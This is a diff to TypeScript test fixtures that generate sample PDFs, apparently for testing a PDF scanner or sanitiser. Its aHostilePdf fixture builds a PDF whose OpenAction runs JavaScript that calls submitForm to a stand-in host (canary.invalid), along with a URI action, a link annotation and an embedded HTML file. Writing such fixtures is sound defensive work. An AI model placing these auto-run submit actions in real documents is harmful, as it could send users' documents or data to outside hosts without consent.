@@ -75,21 +75,22 @@ const webp = (kind: string, content: readonly number[]): Uint8Array<ArrayBuffer>
   ]);
 
 /** One page with some words on it, and `more` objects beside it. */
-export function aPdf(
+export const aPdf = (
   words = "canary page",
   more: readonly string[] = [],
   ending = "",
-): Uint8Array<ArrayBuffer> {
+): Uint8Array<ArrayBuffer> => pdfOf([...pageWith(words), ...more], ending);
+
+/** Five objects, the catalogue first, with something more in it and on its page. */
+function pageWith(words: string, inCatalogue = "", onPage = ""): readonly string[] {
   const shown = `BT /F1 24 Tf 72 700 Td (${words}) Tj ET`;
-  const objects = [
-    `<< /Type /Catalog /Pages 2 0 R${more.length > 0 ? " /OpenAction 6 0 R" : ""} >>`,
+  return [
+    `<< /Type /Catalog /Pages 2 0 R${inCatalogue} >>`,
     "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
+    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >>${onPage} >>`,
     `<< /Length ${String(shown.length)} >>\nstream\n${shown}\nendstream`,
     "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
-    ...more,
   ];
-  return pdfOf(objects, ending);
 }
 
 /** A PDF of these objects, the first of which is its catalogue. */
@@ -127,9 +128,17 @@ export const aLockedPdf = (): Uint8Array<ArrayBuffer> => {
   return aPdf("locked", [], ` /ID [<00><00>] ${locked}`);
 };
 
-/** It would run a script, open a page of the web and send itself there, if anybody let it. */
+/** It would run a script, open a page of the web, send itself there and hand over a file, if anybody let it. */
 export const aHostilePdf = (): Uint8Array<ArrayBuffer> =>
-  aPdf("canary of a hostile page", [
+  pdfOf([
+    ...pageWith(
+      "canary of a hostile page",
+      " /OpenAction 6 0 R /Names << /EmbeddedFiles << /Names [(canary.html) 9 0 R] >> >>",
+      " /Annots [8 0 R]",
+    ),
     "<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('https://canary.invalid/'\\);) /Next 7 0 R >>",
     "<< /S /URI /URI (https://canary.invalid/) >>",
+    "<< /Type /Annot /Subtype /Link /Rect [72 690 400 730] /Border [0 0 0] /A 7 0 R >>",
+    "<< /Type /Filespec /F (canary.html) /UF (canary.html) /EF << /F 10 0 R >> >>",
+    "<< /Type /EmbeddedFile /Length 17 >>\nstream\n<p>canary</p>    \nendstream",
   ]);
